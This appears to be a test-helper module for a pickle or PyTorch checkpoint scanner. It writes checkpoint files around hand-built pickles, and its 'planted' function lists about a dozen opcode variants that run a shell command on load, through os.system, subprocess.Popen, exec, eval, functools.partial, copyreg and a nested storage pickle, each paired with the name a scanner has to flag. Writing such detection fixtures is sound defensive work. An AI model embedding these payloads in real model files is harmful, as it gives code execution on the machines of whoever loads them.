"""Files in torch's two forms around any pickle, and pickles that do harm where Python's own unpickler reads them."""

from __future__ import annotations

import io
import pickle
import zipfile
from pathlib import Path
from typing import Any

import torch

_MAGIC, _PROTOCOL = 0x1950A86A20F9469CFC6C, 1001


def wrap(path: Path, pickled: bytes, *, zipped: bool, values: bytes = b"") -> Path:
    """Write a checkpoint file of a pickle, with one storage `0` of the given bytes."""
    if zipped:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("archive/data.pkl", pickled)
            archive.writestr("archive/byteorder", "little")
            archive.writestr("archive/version", "3\n")
            archive.writestr("archive/data/0", values)
    else:
        head = [pickle.dumps(part, protocol=2) for part in (_MAGIC, _PROTOCOL, {"little_endian": True})]
        path.write_bytes(b"".join(head) + pickled + pickle.dumps([], protocol=2))
    return path


def text(word: str) -> bytes:
    """The opcode that pushes a string."""
    raw = word.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


def with_network(payload: bytes) -> bytes:
    """A pickle of {"state_dict": {}, "surprise": …}, its surprise put there by opcodes."""
    return b"\x80\x02}(" + text("state_dict") + b"}" + text("surprise") + payload + b"u."


def planted(command: str) -> dict[str, tuple[bytes, str]]:
    """Opcodes that run a shell command when pickle.loads meets them, and the name that has to be found in them."""
    run, inner = text(command), io.BytesIO()
    torch.save(_Run(command), inner)
    raw = inner.getvalue()
    shell = b"](" + text("/bin/sh") + text("-c") + run + b"e"
    return {
        "GLOBAL": (b"cos\nsystem\n" + run + b"\x85R", "os.system"),
        "GLOBAL of the module behind os": (b"cposix\nsystem\n" + run + b"\x85R", "posix.system"),
        "STACK_GLOBAL": (_short("os") + _short("system") + b"\x93" + run + b"\x85R", "os.system"),
        "INST": (b"(" + run + b"ios\nsystem\n", "os.system"),
        "OBJ": (b"(csubprocess\nPopen\n" + shell + b"o", "subprocess.Popen"),
        "NEWOBJ": (b"cfunctools\npartial\ncos\nsystem\n" + run + b"\x86\x81)R", "functools.partial"),
        "REDUCE of a builtin": (
            b"cbuiltins\nexec\n" + text(f"import os; os.system({command!r})") + b"\x85R",
            "builtins.exec",
        ),
        "REDUCE of a builtin by its old name": (
            b"c__builtin__\neval\n" + text(f"__import__('os').system({command!r})") + b"\x85R",
            "builtins.eval",
        ),
        "a dotted name": (
            b"\x80\x04" + _short("os") + _short("path.os.system") + b"\x93" + run + b"\x85R",
            "os.path.os.system",
        ),
        "the state of BUILD": (
            b"ccollections\nOrderedDict\n)R}" + text("x") + b"cos\nsystem\n" + run + b"\x85Rsb",
            "os.system",
        ),
        "__setstate__ of a class": (
            b"cfunctools\npartial\ncos\nsystem\n\x85R(cos\nsystem\n" + run + b"\x85}Nt" + b"b)R",
            "functools.partial",
        ),
        "a pickle inside of a storage": (
            b"ctorch.storage\n_load_from_bytes\nB" + len(raw).to_bytes(4, "little") + raw + b"\x85R",
            "torch.storage._load_from_bytes",
        ),
        "copyreg": (
            b"ccopy_reg\n__newobj__\ncfunctools\npartial\ncos\nsystem\n" + run + b"\x87R)R",
            "copyreg.__newobj__",
        ),
    }


class _Run:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        import os

        return os.system, (self.command,)


def _short(word: str) -> bytes:
    return b"\x8c" + bytes([len(word)]) + word.encode()


def saved(path: Path, state: Any, zipped: bool = True, **more: Any) -> Path:
    """Write a checkpoint as torch does, of a state dict and whatever else."""
    torch.save({"state_dict": state, **more}, path, _use_new_zipfile_serialization=zipped)
    return path
